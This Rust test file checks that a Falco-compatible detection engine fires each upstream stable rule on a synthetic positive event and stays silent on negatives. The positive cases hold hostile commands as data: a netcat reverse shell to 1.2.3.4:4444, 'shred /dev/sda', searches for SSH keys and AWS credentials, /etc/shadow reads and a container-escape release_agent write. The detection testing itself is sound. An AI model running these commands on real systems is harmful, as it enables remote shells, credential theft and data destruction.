//! The upstream stable ruleset (`falco_rules.yaml`, read from
//! `../shared/compat/falco-rules/`, never copied into the tree) through the
//! engine: for each of its rules a synthetic event that must fire it and one
//! that must not. This checks that our field values have the meaning the
//! upstream conditions rely on.

use super::tests::{CID, TS, event, exec, fixture, inet, open, tcp};
use crate::event::{Event, EventKind, EventType};
use crate::rules::{LoadOptions, RuleMatching, RuleSet, load_sources};
use crate::state::MemoryState;

fn load_stable() -> RuleSet {
    let (_, text) = crate::pipeline::upstream_rules("falco_rules.yaml");
    let opts = LoadOptions {
        rule_matching: RuleMatching::All,
        ..Default::default()
    };
    load_sources(&[("falco_rules.yaml".to_string(), text)], &opts)
        .unwrap_or_else(|e| panic!("falco_rules.yaml: {e}"))
        .ruleset
}

fn fired(rs: &RuleSet, ev: &Event, st: &MemoryState) -> Vec<String> {
    let mut out = Vec::new();
    rs.evaluate(ev, st, &mut out);
    out.iter()
        .filter_map(|m| rs.rule(m.rule).map(|r| r.name().to_string()))
        .collect()
}

fn exec_as(st: &MemoryState, tid: i64, comm: &str, argv: &[&str]) -> Event {
    let path = format!("/usr/bin/{comm}");
    let mut ev = event(st, tid, EventType::Execve, 0, exec(argv, &path, false));
    ev.task.comm = comm.to_string();
    ev
}

fn open_as(st: &MemoryState, tid: i64, comm: &str, raw: &str, path: &str, flags: i32) -> Event {
    let mut ev = event(st, tid, EventType::Openat, 3, open(raw, path, flags, 0o644));
    ev.task.comm = comm.to_string();
    ev
}

fn link_kind(etype: EventType, source: &str) -> EventKind {
    match etype {
        EventType::Symlinkat => EventKind::Symlink {
            target: source.to_string(),
            linkpath: "/tmp/l".to_string(),
            resolved_linkpath: "/tmp/l".to_string(),
        },
        _ => EventKind::Link {
            oldpath: source.to_string(),
            newpath: "/tmp/l".to_string(),
            resolved_oldpath: source.to_string(),
            resolved_newpath: "/tmp/l".to_string(),
            flags: 0,
        },
    }
}

fn connect(st: &MemoryState, tid: i64, ip: &str, port: u16) -> Event {
    event(
        st,
        tid,
        EventType::Connect,
        0,
        EventKind::Connect {
            fd: 5,
            addr: inet(ip, port),
            tuple: Some(tcp(inet("10.0.0.5", 40001), inet(ip, port))),
        },
    )
}

/// Rules whose positive case cannot be produced, with the reason.
const NO_POSITIVE: &[(&str, &str)] = &[];

/// The address the API server's name resolves to in `k8s_state`.
const API_SERVER_IP: &str = "10.96.0.1";

#[test]
fn upstream_stable_rules_fire_on_their_positive_case_only() {
    // A fixture variant: nginx running for a minute, a system user, a
    // privileged container, ssh as the host process 200.
    let mut st = fixture();
    if let Some(t) = st.threads.get_mut(&300) {
        t.start_ns = TS - 60_000_000_000;
    }
    if let Some(t) = st.threads.get_mut(&200) {
        t.exe = "/usr/bin/ssh".to_string();
    }
    st.users.insert(
        ("host".to_string(), 33),
        (
            "www-data".to_string(),
            "/var/www".to_string(),
            "/usr/sbin/nologin".to_string(),
        ),
    );
    let mut privileged = st.clone();
    if let Some(c) = privileged.containers.get_mut(CID) {
        c.privileged = true;
    }
    // The background resolver found the API server's name (what
    // `fd.sip.name` compares against) at API_SERVER_IP.
    let mut k8s_state = st.clone();
    let api_ip = API_SERVER_IP.parse().unwrap_or_else(|e| panic!("{e}"));
    k8s_state.ip_names = crate::state::dns::NameTable::from_resolved([(
        "kubernetes.default.svc.cluster.local",
        &[api_ip][..],
    )]);
    let k8s = &k8s_state;
    let s = &st;

    let with_tty = |mut ev: Event, tty: u32| {
        ev.task.tty = tty;
        ev
    };
    let at = |mut ev: Event, ts: u64| {
        ev.ts_ns = ts;
        ev
    };
    let with_uid = |mut ev: Event, uid: u32| {
        ev.task.uid = uid;
        ev
    };
    let with_caps = |mut ev: Event, caps: u64| {
        ev.task.cap_effective = caps;
        ev
    };
    let exec_kind = |ev: Event, f: &dyn Fn(&mut EventKind)| {
        let mut ev = ev;
        f(&mut ev.kind);
        ev
    };
    let upper = |e: &mut EventKind| {
        if let EventKind::Exec { exe_file, .. } = e {
            exe_file.upper_layer = true;
        }
    };
    let memfd = |e: &mut EventKind| {
        if let EventKind::Exec { exe_file, .. } = e {
            exe_file.from_memfd = true;
        }
    };
    let dup = |tid: i64, oldfd: i64, newfd: i64| {
        event(
            s,
            tid,
            EventType::Dup2,
            newfd,
            EventKind::Dup {
                oldfd,
                newfd,
                flags: 0,
            },
        )
    };
    let socket = |domain: u32| {
        event(
            s,
            310,
            EventType::Socket,
            4,
            EventKind::Socket {
                domain,
                sock_type: 3,
                proto: 0,
            },
        )
    };
    let module = |tid: i64| {
        event(
            s,
            tid,
            EventType::FinitModule,
            0,
            EventKind::ModuleLoad {
                fd: 3,
                params: String::new(),
            },
        )
    };
    let ptrace = |request: i64| {
        event(
            s,
            200,
            EventType::Ptrace,
            0,
            EventKind::Ptrace { request, pid: 300 },
        )
    };
    const SYS_MODULE: u64 = 1 << 16;
    const SYS_ADMIN: u64 = 1 << 21;
    const TRUNC: i32 = libc::O_WRONLY | libc::O_TRUNC;

    // (rule, state, positive, negatives)
    let cases: Vec<(&str, &MemoryState, Option<Event>, Vec<Event>)> = vec![
        (
            "Directory traversal monitored file read",
            s,
            Some(open_as(
                s,
                300,
                "nginx",
                "../../etc/passwd",
                "/etc/passwd",
                libc::O_RDONLY,
            )),
            vec![open_as(
                s,
                300,
                "nginx",
                "/etc/passwd",
                "/etc/passwd",
                libc::O_RDONLY,
            )],
        ),
        (
            "Read sensitive file trusted after startup",
            s,
            Some(open_as(
                s,
                300,
                "nginx",
                "/etc/shadow",
                "/etc/shadow",
                libc::O_RDONLY,
            )),
            vec![
                // A process younger than 5 s may read it while starting.
                at(
                    open_as(
                        s,
                        300,
                        "nginx",
                        "/etc/shadow",
                        "/etc/shadow",
                        libc::O_RDONLY,
                    ),
                    TS - 59_000_000_000,
                ),
                open_as(s, 300, "nginx", "/etc/hosts", "/etc/hosts", libc::O_RDONLY),
            ],
        ),
        (
            "Read sensitive file untrusted",
            s,
            Some(open_as(
                s,
                200,
                "cat",
                "/etc/shadow",
                "/etc/shadow",
                libc::O_RDONLY,
            )),
            vec![
                open_as(s, 200, "cat", "/etc/hosts", "/etc/hosts", libc::O_RDONLY),
                open_as(s, 200, "sudo", "/etc/shadow", "/etc/shadow", libc::O_RDONLY),
            ],
        ),
        (
            "Run shell untrusted",
            s,
            Some(exec_as(s, 310, "sh", &["sh", "-c", "id"])),
            vec![exec_as(s, 200, "sh", &["sh", "-c", "id"])],
        ),
        (
            "System user interactive",
            s,
            Some(with_uid(exec_as(s, 200, "id", &["id"]), 33)),
            vec![exec_as(s, 200, "id", &["id"])],
        ),
        (
            "Terminal shell in container",
            s,
            Some(with_tty(exec_as(s, 300, "bash", &["bash"]), 34816)),
            vec![
                exec_as(s, 300, "bash", &["bash"]),
                with_tty(exec_as(s, 310, "bash", &["bash"]), 34816),
            ],
        ),
        (
            "Contact K8S API Server From Container",
            k8s,
            Some(connect(k8s, 310, API_SERVER_IP, 443)),
            vec![
                // Another address; the host, not a container.
                connect(k8s, 310, "10.96.0.2", 443),
                connect(k8s, 200, API_SERVER_IP, 443),
            ],
        ),
        (
            "Netcat Remote Code Execution in Container",
            s,
            Some(exec_as(
                s,
                310,
                "nc",
                &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"],
            )),
            vec![exec_as(s, 310, "nc", &["nc", "1.2.3.4", "4444"])],
        ),
        (
            "Search Private Keys or Passwords",
            s,
            Some(exec_as(s, 200, "find", &["find", "/", "-name", "id_rsa"])),
            vec![exec_as(
                s,
                200,
                "find",
                &["find", "/", "-name", "notes.txt"],
            )],
        ),
        (
            "Clear Log Activities",
            s,
            Some(open_as(
                s,
                200,
                "sh",
                "/var/log/syslog",
                "/var/log/syslog",
                TRUNC,
            )),
            vec![open_as(
                s,
                200,
                "sh",
                "/var/log/syslog",
                "/var/log/syslog",
                libc::O_WRONLY | libc::O_APPEND,
            )],
        ),
        (
            "Remove Bulk Data from Disk",
            s,
            Some(exec_as(s, 200, "shred", &["shred", "/dev/sda"])),
            vec![exec_as(s, 200, "rm", &["rm", "x"])],
        ),
        (
            "Create Symlink Over Sensitive Files",
            s,
            Some(event(
                s,
                200,
                EventType::Symlinkat,
                0,
                link_kind(EventType::Symlinkat, "/etc/shadow"),
            )),
            vec![event(
                s,
                200,
                EventType::Symlinkat,
                0,
                link_kind(EventType::Symlinkat, "/tmp/x"),
            )],
        ),
        (
            "Create Hardlink Over Sensitive Files",
            s,
            Some(event(
                s,
                200,
                EventType::Linkat,
                0,
                link_kind(EventType::Linkat, "/etc/shadow"),
            )),
            vec![event(
                s,
                200,
                EventType::Linkat,
                0,
                link_kind(EventType::Linkat, "/tmp/x"),
            )],
        ),
        (
            "Packet socket created in container",
            s,
            Some(socket(libc::AF_PACKET as u32)),
            vec![socket(libc::AF_INET as u32)],
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            s,
            Some(dup(310, 3, 0)),
            vec![dup(200, 3, 1), dup(310, 3, 7)],
        ),
        (
            "Linux Kernel Module Injection Detected",
            s,
            Some(with_caps(module(310), SYS_MODULE)),
            vec![
                with_caps(module(310), SYS_ADMIN),
                with_caps(module(200), SYS_MODULE),
            ],
        ),
        (
            "Debugfs Launched in Privileged Container",
            &privileged,
            Some(exec_as(
                &privileged,
                310,
                "debugfs",
                &["debugfs", "/dev/sda1"],
            )),
            vec![exec_as(
                &privileged,
                200,
                "debugfs",
                &["debugfs", "/dev/sda1"],
            )],
        ),
        (
            "Detect release_agent File Container Escapes",
            s,
            Some(with_uid(
                open_as(
                    s,
                    310,
                    "sh",
                    "release_agent",
                    "/sys/fs/cgroup/x/release_agent",
                    libc::O_WRONLY,
                ),
                0,
            )),
            vec![with_caps(
                with_uid(
                    open_as(
                        s,
                        310,
                        "sh",
                        "release_agent",
                        "/sys/fs/cgroup/x/release_agent",
                        libc::O_WRONLY,
                    ),
                    0,
                ),
                0,
            )],
        ),
        (
            "PTRACE attached to process",
            s,
            Some(ptrace(16)),
            vec![ptrace(2)],
        ),
        (
            "PTRACE anti-debug attempt",
            s,
            Some(ptrace(0)),
            vec![ptrace(16)],
        ),
        (
            "Find AWS Credentials",
            s,
            Some(exec_as(
                s,
                200,
                "find",
                &["find", "/", "-path", "/root/.aws/credentials"],
            )),
            vec![exec_as(s, 200, "find", &["find", "/", "-name", "x"])],
        ),
        (
            "Execution from /dev/shm",
            s,
            Some(exec_as(s, 200, "x", &["/dev/shm/x"])),
            vec![exec_as(s, 200, "x", &["/usr/bin/x"])],
        ),
        (
            "Drop and execute new binary in container",
            s,
            Some(exec_kind(exec_as(s, 310, "x", &["./x"]), &upper)),
            vec![
                exec_as(s, 310, "x", &["./x"]),
                exec_kind(exec_as(s, 200, "x", &["./x"]), &upper),
            ],
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            s,
            Some(connect(s, 200, "93.184.216.34", 4444)),
            vec![
                connect(s, 200, "93.184.216.34", 22),
                connect(s, 200, "10.1.1.1", 4444),
            ],
        ),
        (
            "Fileless execution via memfd_create",
            s,
            Some(exec_kind(exec_as(s, 310, "x", &["x"]), &memfd)),
            vec![exec_as(s, 310, "x", &["x"])],
        ),
    ];

    let rs = load_stable();
    let mut failures = Vec::new();
    for (rule, state, pos, negs) in &cases {
        assert!(
            rs.rule_by_name(rule).is_some(),
            "{rule} is not in falco_rules.yaml"
        );
        match pos {
            Some(ev) => {
                let got = fired(&rs, ev, state);
                if !got.iter().any(|r| r == rule) {
                    failures.push(format!("{rule}: positive did not fire (fired {got:?})"));
                }
            }
            None => assert!(
                NO_POSITIVE.iter().any(|(r, _)| r == rule),
                "{rule} has no positive case"
            ),
        }
        for (i, ev) in negs.iter().enumerate() {
            let got = fired(&rs, ev, state);
            if got.iter().any(|r| r == rule) {
                failures.push(format!("{rule}: negative #{i} fired"));
            }
        }
        if negs.is_empty() {
            failures.push(format!("{rule}: no negative case"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    let covered: Vec<&str> = cases.iter().map(|c| c.0).collect();
    for r in rs.rules() {
        assert!(covered.contains(&r.name()), "{} has no cases", r.name());
    }
    assert_eq!(rs.rules().count(), 25);
}

#[test]
fn the_api_server_rule_needs_the_name_resolved() {
    // Without a resolved name fd.sip.name is missing: the same connection
    // does not fire.
    let st = fixture();
    let ev = connect(&st, 310, API_SERVER_IP, 443);
    let got = fired(&load_stable(), &ev, &st);
    assert!(
        !got.iter()
            .any(|r| r == "Contact K8S API Server From Container"),
        "{got:?}"
    );
}
